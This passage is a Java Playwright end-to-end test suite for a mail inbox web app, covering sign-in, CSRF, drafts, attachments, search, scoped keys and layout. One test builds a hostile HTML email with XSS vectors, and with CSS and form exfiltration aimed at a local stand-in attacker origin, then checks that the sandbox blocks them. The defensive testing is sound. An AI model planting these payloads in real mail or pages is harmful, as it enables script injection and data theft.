package dev.mailroom.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.Cookie;
import com.microsoft.playwright.options.LoadState;
import com.microsoft.playwright.options.SameSiteAttribute;

/**
 * Issue 18, as a person meets it: the inbox web app in a real headless Chromium (Debian's, driven by Playwright),
 * served by the api of the e2e stack, with mail sent by {@code swaks} and answers arriving at Postfix's
 * {@code smtp-sink}. Only accessible selectors (role, label, text, title) and the names of the issue are used, so a
 * test fails when a control loses its name. Each test opens its own browser context (its own cookies); screenshots
 * of the main views go to {@code e2e/target/screenshots/} ({@link Chromium#screenshots()}), and a failing test
 * leaves {@code failed-<test>.png} there. Run by {@link EchoEndToEndIT} on its stack.
 */
final class InboxBrowserScenario implements AutoCloseable {

    /** How long mail may take from swaks (or the app) to the mailbox, the page or the sink. */
    private static final Duration WITHIN = Duration.ofSeconds(90);
    private static final double UI_WAIT_MS = 60_000;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SESSION_COOKIE = "mailroom_session";

    private final Stack stack;
    private final SmtpSink sink;
    private final Path work;
    private Chromium chromium;
    /** The session cookie of each key signed in so far (see {@link #signIn}). */
    private final Map<String, List<Cookie>> sessions = new java.util.concurrent.ConcurrentHashMap<>();

    InboxBrowserScenario(Stack stack, SmtpSink sink, Path work) {
        this.stack = stack;
        this.sink = sink;
        this.work = work;
    }

    // ---------------------------------------------------------------------------------------------------------------
    // The tests (each a method EchoEndToEndIT calls)
    // ---------------------------------------------------------------------------------------------------------------

    /** {@code /} is the app, with a strict CSP and the other security headers; the app itself breaks no directive. */
    void appIsServedWithAStrictCspAndSecurityHeadersItObeys() throws Exception {
        HttpResponse<String> index = http("GET", "/", null, Map.of());
        assertEquals(200, index.statusCode(), index.body());
        assertTrue(index.headers().firstValue("Content-Type").orElse("").startsWith("text/html"), index.headers()
                .map().toString());
        assertStrictCsp(index);
        // an api answer of its own (401 without a key) and a static file carry them too
        assertStrictCsp(http("GET", "/v1/mailboxes", null, Map.of()));
        assertTrue(index.body().contains("<script") && !Pattern.compile("<script(?![^>]*\\bsrc=)[^>]*>")
                .matcher(index.body()).find(), "no inline script in index.html: " + index.body());
        assertFalse(Pattern.compile("<style|\\sstyle=").matcher(index.body()).find(),
                "no inline style in index.html: " + index.body());

        withPage("csp", Viewport.DESKTOP, page -> {
            List<String> violations = recordCspViolations(page);
            page.navigate(base());
            assertThat(page.getByLabel("API key", new Page.GetByLabelOptions().setExact(true))).isVisible();
            Chromium.screenshot(page, "01-sign-in");
            signIn(page, stack.bootstrapKey());
            page.waitForLoadState(LoadState.LOAD);
            assertEquals(List.of(), violations, "the app breaks its own Content-Security-Policy");
        });
    }

    /**
     * A wrong key is refused with a visible error; the right one opens the app with an HttpOnly, SameSite=Strict
     * session cookie JavaScript cannot read, which survives a reload; a change without the CSRF token is refused;
     * Sign out ends the session on the server, not only in the browser.
     */
    void signsInWithTheApiKeyRefusesAWrongOneAndSignOutEndsTheSession() throws Exception {
        withPage("sign-in", Viewport.DESKTOP, page -> {
            page.navigate(base());
            Locator keyField = page.getByLabel("API key", new Page.GetByLabelOptions().setExact(true));
            keyField.fill("mr_nosuchkey_0123456789abcdef");
            page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign in").setExact(true)).click();
            assertThat(page.getByRole(AriaRole.ALERT).filter(new Locator.FilterOptions().setHasText(
                    Pattern.compile("\\S"))).first()).isVisible();
            assertThat(keyField).isVisible();
            assertThat(mailboxes(page)).isHidden();
            assertTrue(page.context().cookies().stream().noneMatch(c -> SESSION_COOKIE.equals(c.name)),
                    "no session for a wrong key: " + describe(page.context().cookies()));

            signInWithForm(page, stack.bootstrapKey());
            Cookie session = page.context().cookies().stream().filter(c -> SESSION_COOKIE.equals(c.name)).findFirst()
                    .orElseThrow(() -> new AssertionError("no " + SESSION_COOKIE + " cookie: "
                            + describe(page.context().cookies())));
            assertTrue(session.httpOnly, "HttpOnly: " + describe(List.of(session)));
            assertEquals(SameSiteAttribute.STRICT, session.sameSite, describe(List.of(session)));
            assertEquals("/", session.path, describe(List.of(session)));
            assertFalse(String.valueOf(page.evaluate("() => document.cookie")).contains(SESSION_COOKIE),
                    "scripts can read the session cookie");
            String cookie = SESSION_COOKIE + "=" + session.value;
            assertEquals(200, http("GET", "/v1/mailboxes", null, Map.of("Cookie", cookie)).statusCode(),
                    "the cookie acts as the key");
            // a change from the page without the X-CSRF-Token header is refused before it does anything
            Object status = page.evaluate("async () => (await fetch('/v1/send', {method: 'POST', credentials: "
                    + "'same-origin', headers: {'Content-Type': 'application/json'}, body: '{}'})).status");
            assertEquals(403, ((Number) status).intValue(), "POST without X-CSRF-Token");

            page.reload();
            assertThat(signOut(page)).isVisible();
            assertThat(mailboxes(page)).isVisible();

            signOut(page).click();
            assertThat(keyField).isVisible();
            assertTrue(page.context().cookies().stream().noneMatch(c -> SESSION_COOKIE.equals(c.name)
                    && !c.value.isEmpty()), "cookie left after sign-out: " + describe(page.context().cookies()));
            assertEquals(401, http("GET", "/v1/mailboxes", null, Map.of("Cookie", cookie)).statusCode(),
                    "the session must be gone on the server after sign-out");
            assertEquals(401, http("GET", "/ui/session", null, Map.of("Cookie", cookie)).statusCode());
        });
    }

    /** Mail sent by SMTP while the mailbox is open shows up in its thread list without a reload, and opens. */
    void mailSentBySmtpAppearsLiveInTheThreadListAndOpens() throws Exception {
        String marker = "live" + System.nanoTime();
        String address = "echo+" + marker + "@agents.localhost";
        swaks(address, "first " + marker, "first-" + marker, "hello first " + marker);
        String mailbox = mailboxOf(address);
        withPage("live", Viewport.DESKTOP, page -> {
            signIn(page, stack.bootstrapKey());
            page.navigate(base() + "/#/m/" + mailbox + "/inbox");
            assertThat(threadRow(page, "first " + marker)).isVisible(ui());
            page.evaluate("() => { window.__sameDocument = true; }");

            swaks(address, "second " + marker, "second-" + marker, "hello live " + marker);
            Locator row = threadRow(page, "second " + marker);
            assertThat(row).isVisible(ui());
            assertEquals(Boolean.TRUE, page.evaluate("() => window.__sameDocument === true"),
                    "the page was reloaded: the row must come from the event stream");
            Chromium.screenshot(page, "02-thread-list");

            row.click();
            assertThat(reader(page).getByText("second " + marker).first()).isVisible();
            awaitBodyShows(page, "hello live " + marker);
            Chromium.screenshot(page, "03-thread");
        });
    }

    /**
     * The Drafter agent's held answer shows inline in its thread with the send policy's reason; Approve sends it,
     * and it arrives at the real SMTP sink threaded to the question.
     */
    void drafterDraftShowsItsReasonAndApproveSendsItToTheSink() throws Exception {
        String marker = "drf" + System.nanoTime();
        String address = "drafter+" + marker + "@agents.localhost";
        swaks(address, "question " + marker, marker, "may I have an answer? " + marker);
        String mailbox = mailboxOf(address);
        AtomicReference<JsonNode> thread = new AtomicReference<>();
        await().atMost(WITHIN).pollInterval(Duration.ofMillis(500)).ignoreExceptions().until(() -> {
            JsonNode threads = json("GET", "/v1/threads?mailbox=" + mailbox, null);
            thread.set(json("GET", "/v1/threads/" + threads.get("items").get(0).get("id").asText(), null));
            return thread.get().get("drafts").size() == 1;
        });
        JsonNode draft = thread.get().get("drafts").get(0);
        String reason = draft.get("reason").asText();
        assertFalse(reason.isBlank(), draft.toString());
        String threadId = thread.get().get("id").asText();
        String inReplyTo = "In-Reply-To: <" + marker + "@e2e.example>";
        List<String> problems = new CopyOnWriteArrayList<>();
        // the list counts the draft from agent-host's agent.send-held event, a moment after the thread view shows it
        try {
            await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(500)).ignoreExceptions()
                    .until(() -> listItem(mailbox, threadId).path("drafts_pending").asInt() == 1);
        } catch (org.awaitility.core.ConditionTimeoutException e) {
            problems.add("the thread list item never counted the draft: " + listItem(mailbox, threadId));
        }

        withPage("draft", Viewport.DESKTOP, page -> {
            signIn(page, stack.bootstrapKey());
            page.navigate(base() + "/#/m/" + mailbox + "/inbox");
            Locator row = threadRow(page, "question " + marker);
            assertThat(row).isVisible(ui());
            try {
                assertThat(row.getByLabel("Draft waiting", new Locator.GetByLabelOptions().setExact(true)))
                        .isVisible(new LocatorAssertions.IsVisibleOptions().setTimeout(10_000));
            } catch (AssertionError e) {
                // reported at the end: the approval below matters more than the badge
                problems.add("the thread's row has no \"Draft waiting\" badge (list item drafts_pending="
                        + listItem(mailbox, threadId).path("drafts_pending") + ")");
            }
            page.navigate(base() + "/#/t/" + threadId);
            assertThat(reader(page).getByText(reason).first()).isVisible(ui());
            Locator approve = reader(page).getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions()
                    .setName("Approve").setExact(true));
            assertThat(reader(page).getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Reject")
                    .setExact(true))).isVisible();
            assertThat(reader(page).getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Edit")
                    .setExact(true))).isVisible();
            Chromium.screenshot(page, "04-thread-with-draft");
            assertTrue(sink.messages().stream().noneMatch(m -> m.contains(inReplyTo)), "sent before approval");

            approve.click();
            await().atMost(WITHIN).pollInterval(Duration.ofMillis(500))
                    .until(() -> sink.messages().stream().anyMatch(m -> m.contains(inReplyTo)));
            assertThat(approve).isHidden(new LocatorAssertions.IsHiddenOptions().setTimeout(UI_WAIT_MS));
        });
        assertEquals(1, sink.messages().stream().filter(m -> m.contains(inReplyTo)).count(), "sent once");
        assertEquals(List.of(), problems);
    }

    /**
     * Reply with a file chosen in Attach files: the answer arrives at the sink, threaded, with the attachment's bytes
     * intact (SHA-256 of what the browser uploaded equals that of the part the sink received).
     */
    void replyWithAnUploadedAttachmentArrivesWithTheBytesIntact() throws Exception {
        String marker = "rpl" + System.nanoTime();
        String address = "echo+" + marker + "@agents.localhost";
        swaks(address, "needs an answer " + marker, marker, "please answer " + marker);
        String mailbox = mailboxOf(address);
        byte[] bytes = new byte[48 * 1024 + 7];
        new Random(marker.hashCode()).nextBytes(bytes);
        String filename = "figures-" + marker + ".bin";
        Path upload = Files.write(work.resolve(filename), bytes);
        String answer = "a person answers " + marker;

        withPage("reply", Viewport.DESKTOP, page -> {
            signIn(page, stack.bootstrapKey());
            page.navigate(base() + "/#/m/" + mailbox + "/inbox");
            threadRow(page, "needs an answer " + marker).click();
            awaitBodyShows(page, "please answer " + marker);
            reader(page).getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Reply").setExact(true))
                    .first().click();
            Locator to = page.getByLabel("To", new Page.GetByLabelOptions().setExact(true));
            assertThat(to).isVisible();
            assertTrue(fieldText(to).contains("tester@example.org"), "To of the reply: " + fieldText(to));
            page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Message").setExact(true))
                    .fill(answer);
            page.getByLabel("Attach files", new Page.GetByLabelOptions().setExact(true)).setInputFiles(upload);
            assertThat(page.getByText(filename).first()).isVisible();
            Chromium.screenshot(page, "05-compose");
            page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Send").setExact(true)).click();
            await().atMost(WITHIN).pollInterval(Duration.ofMillis(500))
                    .until(() -> sink.messages().stream().anyMatch(m -> m.contains(filename)));
        });
        String arrived = sink.messages().stream().filter(m -> m.contains(filename)).findFirst().orElseThrow();
        Map<String, String> headers = EchoEndToEndIT.headers(arrived);
        // threaded to the conversation: Reply answers the message last opened (the question or the agent's answer)
        assertTrue(headers.getOrDefault("References", "").contains("<" + marker + "@e2e.example>"),
                "References: " + headers.get("References"));
        assertTrue(headers.get("To").contains("tester@example.org"), headers.toString());
        assertEquals(sha256(bytes), sha256(attachment(arrived, filename)), "the attachment's bytes at the sink");
    }

    /** Search finds a message by a word that is only in its PDF attachment, and the results mark the match. */
    void searchFindsAMessageByTheTextOfItsPdfAndMarksTheMatch() throws Exception {
        String marker = "srch" + System.nanoTime();
        String word = "okapi" + marker;
        String address = "echo+" + marker + "@agents.localhost";
        Path pdf = Files.write(work.resolve("statement-" + marker + ".pdf"),
                MailboxScenario.pdf("annual " + word + " statement"));
        Stack.Result sent = Stack.run(List.of("swaks", "--server", "127.0.0.1:" + stack.smtpPort,
                "--from", "tester@example.org", "--to", address, "--header", "Subject: paperwork " + marker,
                "--header", "Message-Id: <" + marker + "@e2e.example>", "--body", "see the attachment",
                "--attach-type", "application/pdf", "--attach-name", pdf.getFileName().toString(),
                "--attach", "@" + pdf, "--timeout", "60"), Map.of(), Duration.ofSeconds(90));
        assertEquals(0, sent.exitCode(), sent.output());
        String mailbox = mailboxOf(address);
        // the PDF's text is extracted asynchronously: the API finds it first, then the page must too
        await().atMost(WITHIN).pollInterval(Duration.ofSeconds(1)).ignoreExceptions().until(() -> json("GET",
                "/v1/threads?mailbox=" + mailbox + "&q=" + URLEncoder.encode(word, StandardCharsets.UTF_8), null)
                .get("items").size() == 1);

        withPage("search", Viewport.DESKTOP, page -> {
            signIn(page, stack.bootstrapKey());
            Locator search = page.getByLabel("Search", new Page.GetByLabelOptions().setExact(true));
            search.fill(word);
            search.press("Enter");
            Locator row = threadRow(page, "paperwork " + marker);
            assertThat(row).isVisible(ui());
            Chromium.screenshot(page, "06-search");
            Locator match = row.getByText(word, new Locator.GetByTextOptions().setExact(false)).first();
            assertTrue(match.count() > 0, "search found the thread, but its row does not show the matched word \""
                    + word + "\" (API highlights: " + json("GET", "/v1/threads?q=" + word, null).path("items").path(0)
                    .path("highlights") + ")");
            assertEquals("MARK", String.valueOf(match.evaluate(
                    "el => (el.closest('mark') || el.querySelector('mark') || el).tagName")),
                    "the match is highlighted (<mark>): " + match.evaluate("el => el.outerHTML"));
        });
    }

    /**
     * A hostile HTML message (script, event handlers, a javascript: link, CSS exfiltration through @import and
     * background URLs, a remote image, meta refresh, base, a form, an iframe, an object) runs nothing and loads
     * nothing from the remote host; after Show images only image requests arrive, and still no script has run.
     */
    void hostileHtmlRunsNothingAndLoadsNothingUntilImagesAreAllowed() throws Exception {
        String marker = "hostile" + System.nanoTime();
        String address = "echo+" + marker + "@agents.localhost";
        try (RequestRecorder remote = new RequestRecorder()) {
            String o = remote.origin();
            String html = "<html><head>"
                    + "<meta http-equiv=\"refresh\" content=\"0;url=" + o + "/refresh\">"
                    + "<base href=\"" + o + "/base/\">"
                    + "<link rel=\"stylesheet\" href=\"" + o + "/link.css\">"
                    + "<style>@import url(\"" + o + "/import.css\"); body { background: url(\"" + o + "/bg.png\"); }"
                    + " input[value^=\"s\"] { background-image: url(\"" + o + "/exfil-s.png\"); }</style>"
                    + "<script>window.__pwned = 'script'; alert('script'); new Image().src = '" + o + "/script';"
                    + "</script><script src=\"" + o + "/external.js\"></script>"
                    + "</head><body onload=\"window.__pwned = 'onload'; alert('onload')\">"
                    + "<p>Quarterly numbers " + marker + "</p>"
                    + "<img src=\"" + o + "/img.png\" alt=\"tracker\" width=\"20\" height=\"20\">"
                    + "<img src=\"x\" onerror=\"window.__pwned = 'onerror'; alert('onerror')\">"
                    + "<svg onload=\"alert('svg')\"><rect width=\"1\" height=\"1\"/></svg>"
                    + "<p><a href=\"javascript:window.__pwned = 'link'; alert('link')\">Open the report " + marker
                    + "</a></p>"
                    + "<form action=\"" + o + "/form\" method=\"post\"><input name=\"secret\" value=\"s3cret\">"
                    + "<button type=\"submit\">Submit form</button></form>"
                    + "<iframe src=\"" + o + "/frame\"></iframe><object data=\"" + o + "/object\"></object>"
                    + "<embed src=\"" + o + "/embed\">"
                    + "<div style=\"background-image: url('" + o + "/inline-style.png')\">styled</div>"
                    + "</body></html>";
            Path eml = work.resolve(marker + ".eml");
            Files.writeString(eml, "From: Mallory <mallory@example.org>\r\nTo: " + address + "\r\n"
                    + "Subject: numbers " + marker + "\r\nMessage-Id: <" + marker + "@e2e.example>\r\n"
                    + "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b\"\r\n\r\n"
                    + "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nQuarterly numbers " + marker + "\r\n"
                    + "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n--b--\r\n");
            Stack.Result sent = Stack.run(List.of("swaks", "--server", "127.0.0.1:" + stack.smtpPort,
                    "--from", "mallory@example.org", "--to", address, "--data", "@" + eml, "--timeout", "60"),
                    Map.of(), Duration.ofSeconds(90));
            assertEquals(0, sent.exitCode(), sent.output());
            String mailbox = mailboxOf(address);
            String threadId = await().atMost(WITHIN).pollInterval(Duration.ofMillis(500)).ignoreExceptions()
                    .until(() -> json("GET", "/v1/threads?mailbox=" + mailbox, null).get("items").get(0).get("id")
                            .asText(), id -> id != null);
            String messageId = json("GET", "/v1/threads/" + threadId, null).get("messages").get(0).get("id")
                    .asText();
            // the sanitized body is served with a CSP of its own: nothing remote while images are blocked
            HttpResponse<byte[]> body = stack.api("GET", "/v1/messages/" + messageId + "/body?images=block", null);
            assertEquals(200, body.statusCode(), new String(body.body(), StandardCharsets.UTF_8));
            Map<String, String> bodyCsp = csp(body.headers().firstValue("Content-Security-Policy").orElse(""));
            assertEquals("'none'", bodyCsp.get("default-src"), bodyCsp.toString());
            assertFalse(bodyCsp.getOrDefault("img-src", "").contains("http"), bodyCsp.toString());
            assertFalse(bodyCsp.containsKey("script-src"), bodyCsp.toString());

            withPage("hostile", Viewport.DESKTOP, page -> {
                List<String> dialogs = new CopyOnWriteArrayList<>();
                page.onDialog(d -> {
                    dialogs.add(d.type() + ": " + d.message());
                    d.dismiss();
                });
                List<String> popups = new CopyOnWriteArrayList<>();
                page.context().onPage(p -> popups.add(p.url()));
                signIn(page, stack.bootstrapKey());
                page.navigate(base() + "/#/t/" + threadId);
                Locator iframe = page.getByTitle("Message body", new Page.GetByTitleOptions().setExact(true));
                assertThat(iframe).isVisible(ui());
                String sandbox = iframe.getAttribute("sandbox");
                assertNotNull(sandbox, "the message body's iframe must be sandboxed");
                assertFalse(sandbox.contains("allow-scripts") || sandbox.contains("allow-same-origin")
                        || sandbox.contains("allow-forms"), "sandbox=\"" + sandbox + "\"");
                FrameLocator frame = iframe.contentFrame();
                assertThat(frame.getByText("Quarterly numbers " + marker)).isVisible();
                bodyFrame(page).waitForLoadState(LoadState.LOAD);
                assertThat(page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Show images")
                        .setExact(true))).isVisible();
                // what a person might do: follow the link, submit the form (if any survived sanitizing)
                frame.getByText("Open the report " + marker).click();
                Locator submit = frame.getByRole(AriaRole.BUTTON, new FrameLocator.GetByRoleOptions()
                        .setName("Submit form"));
                if (submit.count() > 0) {
                    submit.first().click();
                }
                Chromium.screenshot(page, "07-hostile-images-blocked");
                assertNothingRan(page, dialogs);
                assertEquals(List.of(), remote.requests(), "requests to the remote host while images are blocked");

                page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Show images").setExact(true))
                        .click();
                await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(200))
                        .until(() -> remote.requests().contains("GET /img.png"));
                assertThat(page.getByTitle("Message body").contentFrame()
                        .getByText("Quarterly numbers " + marker)).isVisible();
                bodyFrame(page).waitForLoadState(LoadState.LOAD);
                Chromium.screenshot(page, "08-hostile-images-shown");
                assertNothingRan(page, dialogs);
                // images may load now (the message's own, CSS backgrounds); nothing else ever
                List<String> notImages = remote.requests().stream().filter(r -> List.of("/refresh", "/link.css",
                        "/import.css", "/script", "/external.js", "/form", "/frame", "/object", "/embed").stream()
                        .anyMatch(r::endsWith)).toList();
                assertEquals(List.of(), notImages, "only images may load once allowed; all: " + remote.requests());
                assertTrue(popups.stream().noneMatch(u -> u.startsWith("javascript:") || u.startsWith(o)),
                        "popups: " + popups);
            });
        }
    }

    /**
     * A key scoped to agents.localhost signs in and sees only that domain's mailboxes: not those of a second domain
     * that has mail (which the admin key sees), and a thread of that domain opened by URL is not found.
     */
    void keyScopedToOneDomainSeesNeitherTheOtherDomainsMailboxesNorItsThreads() throws Exception {
        String other = "elsewhere.localhost";
        String marker = "scope" + System.nanoTime();
        HttpResponse<byte[]> created = stack.api("POST", "/v1/domains", JSON.writeValueAsString(Map.of("name", other)));
        assertTrue(created.statusCode() == 201 || created.statusCode() == 409,
                created.statusCode() + " " + new String(created.body(), StandardCharsets.UTF_8));
        String otherAddress = "echo+" + marker + "@" + other;
        // ingress accepts the new domain once the domain record reached it (seconds)
        await().atMost(WITHIN).pollInterval(Duration.ofSeconds(1)).until(() -> Stack.run(List.of("swaks",
                "--server", "127.0.0.1:" + stack.smtpPort, "--from", "tester@example.org", "--to", otherAddress,
                "--header", "Subject: elsewhere " + marker, "--header", "Message-Id: <" + marker + "@e2e.example>",
                "--body", "for the other domain only", "--timeout", "60"), Map.of(), Duration.ofSeconds(90))
                .exitCode() == 0);
        String otherMailbox = mailboxOf(otherAddress);
        String otherThread = await().atMost(WITHIN).pollInterval(Duration.ofMillis(500)).ignoreExceptions()
                .until(() -> json("GET", "/v1/threads?mailbox=" + otherMailbox, null).get("items").get(0).get("id")
                        .asText(), id -> id != null);
        String ownMarker = "own" + System.nanoTime();
        String ownAddress = "echo+" + ownMarker + "@agents.localhost";
        swaks(ownAddress, "own " + ownMarker, ownMarker, "for agents.localhost");
        mailboxOf(ownAddress);
        JsonNode key = json("POST", "/v1/api-keys", JSON.writeValueAsString(Map.of("name", "agents only " + marker,
                "permissions", List.of("read", "send", "drafts"), "domains", List.of("agents.localhost"))));
        String token = key.get("token").asText();

        // the admin key sees the other domain's mailbox: the sidebar shows addresses (the control for what follows)
        withPage("scope-admin", Viewport.DESKTOP, page -> {
            signIn(page, stack.bootstrapKey());
            assertThat(mailboxes(page).getByText(other).first()).isVisible(ui());
        });
        withPage("scope", Viewport.DESKTOP, page -> {
            signIn(page, token);
            assertThat(mailboxes(page).getByText("agents.localhost").first()).isVisible(ui());
            assertThat(mailboxes(page).getByText(other)).hasCount(0);
            Object status = page.evaluate("async id => (await fetch('/v1/threads/' + id, {credentials: "
                    + "'same-origin'})).status", otherThread);
            assertEquals(404, ((Number) status).intValue(), "the session acts as the scoped key");
            page.navigate(base() + "/#/t/" + otherThread);
            assertThat(reader(page).getByText(Pattern.compile("not found|404|does not exist", Pattern.CASE_INSENSITIVE)).first())
                    .isVisible(ui());
            assertThat(page.getByText("elsewhere " + marker)).hasCount(0);
            Chromium.screenshot(page, "09-scoped-key-not-found");
        });
    }

    /**
     * The keyboard alone: ? opens the Keyboard shortcuts help and Esc closes it; j moves to a thread and o opens it,
     * j with a thread open opens the next; / focuses Search; r opens the Reply dialog, Esc closes it.
     */
    void keyboardShortcutsOpenHelpMoveThroughThreadsSearchAndReply() throws Exception {
        String marker = "keys" + System.nanoTime();
        String address = "echo+" + marker + "@agents.localhost";
        swaks(address, "older " + marker, "older-" + marker, "the older one " + marker);
        String mailbox = mailboxOf(address);
        await().atMost(WITHIN).pollInterval(Duration.ofMillis(500)).ignoreExceptions()
                .until(() -> json("GET", "/v1/threads?mailbox=" + mailbox, null).get("items").size() == 1);
        swaks(address, "newer " + marker, "newer-" + marker, "the newer one " + marker);
        await().atMost(WITHIN).pollInterval(Duration.ofMillis(500)).ignoreExceptions()
                .until(() -> json("GET", "/v1/threads?mailbox=" + mailbox, null).get("items").size() == 2);
        withPage("keyboard", Viewport.DESKTOP, page -> {
            signIn(page, stack.bootstrapKey());
            page.navigate(base() + "/#/m/" + mailbox + "/inbox");
            assertThat(threadRow(page, "older " + marker)).isVisible(ui());
            assertThat(threadRow(page, "newer " + marker)).isVisible();

            page.keyboard().press("?");
            Locator help = page.getByRole(AriaRole.DIALOG, new Page.GetByRoleOptions().setName("Keyboard shortcuts"));
            assertThat(help).isVisible();
            Chromium.screenshot(page, "12-keyboard-help");
            page.keyboard().press("Escape");
            assertThat(help).isHidden();

            // newest first: j reaches the newer thread, o opens it; j then opens the older one
            page.keyboard().press("j");
            page.keyboard().press("o");
            assertThat(reader(page).getByRole(AriaRole.HEADING, new Locator.GetByRoleOptions()
                    .setName("newer " + marker))).isVisible();
            page.keyboard().press("j");
            assertThat(reader(page).getByRole(AriaRole.HEADING, new Locator.GetByRoleOptions()
                    .setName("older " + marker))).isVisible();

            page.keyboard().press("r");
            Locator reply = page.getByRole(AriaRole.DIALOG, new Page.GetByRoleOptions().setName("Reply"));
            assertThat(reply).isVisible();
            assertTrue(fieldText(reply.getByLabel("Subject", new Locator.GetByLabelOptions().setExact(true)))
                    .contains("older " + marker), "r answers the open thread");
            page.keyboard().press("Escape");
            assertThat(reply).isHidden();

            page.keyboard().press("/");
            assertThat(page.getByLabel("Search", new Page.GetByLabelOptions().setExact(true))).isFocused();
        });
    }

    /**
     * At phone width (375 px) the list fills the screen, a thread replaces it with a Back button, and nothing is
     * wider than the screen.
     */
    void phoneWidthStacksListAndReaderWithABackButton() throws Exception {
        String marker = "phone" + System.nanoTime();
        String address = "echo+" + marker + "@agents.localhost";
        swaks(address, "on the go " + marker, marker, "read on a phone " + marker);
        String mailbox = mailboxOf(address);
        withPage("phone", Viewport.PHONE, page -> {
            signIn(page, stack.bootstrapKey());
            page.navigate(base() + "/#/m/" + mailbox + "/inbox");
            Locator row = threadRow(page, "on the go " + marker);
            assertThat(row).isVisible(ui());
            assertNoHorizontalScroll(page);
            Chromium.screenshot(page, "10-phone-list");
            row.click();
            awaitBodyShows(page, "read on a phone " + marker);
            assertThat(threads(page)).isHidden();
            Locator back = page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Back"));
            assertThat(back).isVisible();
            assertNoHorizontalScroll(page);
            Chromium.screenshot(page, "11-phone-thread");
            back.click();
            assertThat(row).isVisible();
        });
    }

    // ---------------------------------------------------------------------------------------------------------------
    // The page: accessible names of issue 18 (docs: briefs split.md)
    // ---------------------------------------------------------------------------------------------------------------

    enum Viewport {
        DESKTOP(1280, 860), PHONE(375, 740);

        final int width;
        final int height;

        Viewport(int width, int height) {
            this.width = width;
            this.height = height;
        }
    }

    @FunctionalInterface
    interface PageTest {
        void run(Page page) throws Exception;
    }

    /**
     * Runs {@code test} on a page of a fresh context (its own cookies); on failure saves {@code failed-<name>.png}
     * and adds the page's console errors to the failure.
     */
    private void withPage(String name, Viewport viewport, PageTest test) throws Exception {
        if (chromium == null) {
            chromium = Chromium.launch();
        }
        Browser.NewContextOptions options = new Browser.NewContextOptions()
                .setViewportSize(viewport.width, viewport.height);
        if (viewport == Viewport.PHONE) {
            options.setIsMobile(true).setHasTouch(true).setDeviceScaleFactor(2);
        }
        try (BrowserContext context = chromium.browser.newContext(options)) {
            context.setDefaultTimeout(20_000);
            Page page = context.newPage();
            List<String> console = new CopyOnWriteArrayList<>();
            page.onConsoleMessage(m -> {
                if ("error".equals(m.type()) || "warning".equals(m.type())) {
                    console.add(m.type() + ": " + m.text());
                }
            });
            page.onPageError(e -> console.add("uncaught: " + e));
            try {
                test.run(page);
            } catch (Throwable e) {
                try {
                    Chromium.screenshot(page, "failed-" + name);
                } catch (RuntimeException | java.io.IOException ignored) {
                    // the failure matters, not the picture
                }
                AssertionError failure = new AssertionError(name + ": " + e.getMessage()
                        + (console.isEmpty() ? "" : "\nbrowser console:\n  " + String.join("\n  ", console))
                        + "\npage: " + page.url(), e);
                throw failure;
            }
        }
    }

    private String base() {
        return "http://127.0.0.1:" + stack.env.get("MAILROOM_HTTP_PORT");
    }

    /**
     * Signs in as {@code key}: on the sign-in form the first time, then with that session's cookie (the api allows
     * {@code mailroom.ui.sign-in-per-minute} attempts per address, 10 by default, and every test here comes from
     * 127.0.0.1); returns once Sign out shows.
     */
    private void signIn(Page page, String key) {
        List<Cookie> session = sessions.get(key);
        if (session == null) {
            signInWithForm(page, key);
            sessions.put(key, page.context().cookies().stream().filter(c -> SESSION_COOKIE.equals(c.name)).toList());
            return;
        }
        page.context().addCookies(session);
        page.navigate(base());
        assertThat(signOut(page)).isVisible();
    }

    /** Signs in on the sign-in form with {@code key} (a session of its own); returns once Sign out shows. */
    private void signInWithForm(Page page, String key) {
        if (!page.url().startsWith(base())) {
            page.navigate(base());
        }
        page.getByLabel("API key", new Page.GetByLabelOptions().setExact(true)).fill(key);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign in").setExact(true)).click();
        assertThat(signOut(page)).isVisible();
    }

    private static Locator signOut(Page page) {
        return page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign out").setExact(true));
    }

    private static Locator mailboxes(Page page) {
        return page.getByLabel("Mailboxes", new Page.GetByLabelOptions().setExact(true));
    }

    private static Locator threads(Page page) {
        return page.getByLabel("Threads", new Page.GetByLabelOptions().setExact(true));
    }

    private static Locator reader(Page page) {
